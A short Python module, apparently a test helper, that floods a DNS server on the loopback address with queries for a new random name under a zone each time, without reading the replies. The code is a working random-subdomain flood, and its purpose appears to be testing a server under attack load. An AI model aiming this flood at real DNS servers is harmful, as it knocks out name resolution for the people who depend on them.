"""A client that asks for random names."""

import itertools
import socket
import threading

import dns.message

ATTACKER = "127.0.0.66"


class Attack:
    """From one address, as fast as it can, without reading replies: another name below the zone each time."""

    def __init__(self, port: int, zone: str, **options):
        """options: those of dns.message.make_query."""
        self._port = port
        self._wire = dns.message.make_query(f"x00000000.{zone}", "A", id=0, **options).to_wire()
        self._is_over = threading.Event()
        self._sent = 0
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        wire = self._wire
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.bind((ATTACKER, 0))
            client.connect(("127.0.0.1", self._port))
            for number in itertools.count():
                if self._is_over.wait(0.005 if number % 50 == 0 else 0):
                    return
                client.send(number.to_bytes(4, "big")[2:] + wire[2:14] + b"%08d" % number + wire[22:])
                self._sent += 1

    def stop(self) -> int:
        self._is_over.set()
        self._thread.join()
        return self._sent
